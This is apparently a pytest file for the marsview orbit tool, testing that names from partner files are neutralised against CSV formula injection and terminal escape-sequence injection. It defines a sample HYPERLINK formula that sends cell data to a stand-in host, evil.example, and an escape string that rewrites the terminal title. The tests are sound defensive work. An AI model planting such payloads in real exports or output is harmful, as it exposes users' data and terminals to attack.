"""Issue 17: names from partner files reach spreadsheets and terminals defused. An OBJECT_NAME starting with
`=` is written by `screen --format csv` as text (leading apostrophe), negative numbers stay numbers, and
terminal escape sequences in names are printed escaped by `info` and `screen`."""

from __future__ import annotations

import csv
import io
import sys
from pathlib import Path

import pytest

from marsview.cli import main
from marsview.io.oem import write_oem
from marsview.io.oem_convert import ephemeris_to_oem
from marsview.io.safe_text import printable, spreadsheet_safe

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "gui"))
from fake_scenario import make_scenario  # noqa: E402

EVIL = '=HYPERLINK("http://evil.example/?q="&A1,"click")'
ESCAPE = "BRAVO\x1b[31mRED\x1b]0;pwned\x07"


@pytest.fixture
def evil_files(tmp_path):
    sc = make_scenario()
    paths = []
    for obj, name in zip(sc.objects[:2], (EVIL, ESCAPE)):
        eph = obj.ephemeris
        eph.name = name
        path = tmp_path / f"{len(paths)}.oem"
        write_oem(path, ephemeris_to_oem([eph], step_s=60.0))
        paths.append(str(path))
    return paths


def test_screen_csv_neutralises_formulas_and_keeps_numbers(evil_files, capsys):
    assert main(["screen", *evil_files, "--format", "csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert rows
    names = {rows[0]["object1"], rows[0]["object2"]}
    assert "'" + EVIL in names and not any(n.startswith(("=", "+", "-", "@")) for n in names)
    for key in ("radial_km", "in_track_km", "cross_track_km", "miss_km"):
        float(rows[0][key])  # still plain numbers (a negative component is not quoted)
    assert any(rows[0][k].startswith("-") for k in ("radial_km", "in_track_km", "cross_track_km", "crossing_dt_s"))


def test_screen_table_and_info_print_control_characters_escaped(evil_files, capsys):
    assert main(["screen", *evil_files]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out and "\\x1b[31mRED" in out
    assert main(["info", *evil_files]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\\x1b]0;pwned\\x07" in out


@pytest.mark.parametrize("value,expected", [("=1+1", "'=1+1"), ("+1", "'+1"), ("-x", "'-x"), ("@SUM(A1)", "'@SUM(A1)"),
                                            ("\tx", "'\tx"), ("\rx", "'\rx"), ("MRO", "MRO"), (-1.5, -1.5), (0, 0)])
def test_spreadsheet_safe(value, expected):
    assert spreadsheet_safe(value) == expected


def test_printable_escapes_only_control_characters():
    assert printable("MRO – Mars Reconnaissance Orbiter") == "MRO – Mars Reconnaissance Orbiter"
    assert printable("A\x1b[2JB\nC") == "A\\x1b[2JB\\nC"
